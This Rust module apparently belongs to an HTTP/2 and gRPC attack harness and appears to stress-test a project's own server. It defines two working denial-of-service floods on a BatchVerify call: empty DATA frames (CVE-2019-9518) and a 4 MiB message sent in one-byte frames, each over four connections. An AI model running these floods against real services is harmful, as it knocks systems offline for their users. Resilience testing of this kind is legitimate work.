//! DATA frames with nothing or next to nothing in them, on a call of a known caller.

use std::sync::Arc;

use anyhow::Result;
use futures_util::future::LocalBoxFuture;

use crate::attack::Attack;
use crate::frames::{self, frame};
use crate::grpc;
use crate::raw::flood_all;
use crate::stage::Stage;

const CONNECTIONS: usize = 4;
/// Frames in one write.
const BATCH: usize = 500;

pub(super) const EMPTY: Attack =
    Attack::new("empty-data", "4 connections of empty DATA frames on a BatchVerify (CVE-2019-9518)", |stage| {
        flood(stage, &[])
    });

pub(super) const TINY: Attack =
    Attack::new("tiny-data", "4 connections that send a message of 4 MiB in DATA frames of one byte", |stage| {
        flood(stage, &[0x0a])
    });

fn flood(stage: Arc<Stage>, payload: &'static [u8]) -> LocalBoxFuture<'static, Result<()>> {
    Box::pin(async move {
        let call = frames::call(&grpc::path("BatchVerify"), Some(&stage.verifier));
        let begin = [
            frame(frames::HEADERS, frames::END_HEADERS, 1, &call),
            frame(frames::DATA, 0, 1, &grpc::announce(4 * 1024 * 1024 - 1)),
        ];
        let batch = frame(frames::DATA, 0, 1, payload).repeat(BATCH);
        // The server's window lets 256 KiB through before it must be renewed; then it is the server that waits.
        flood_all(&stage, CONNECTIONS, &begin.concat(), |_| batch.clone()).await
    })
}
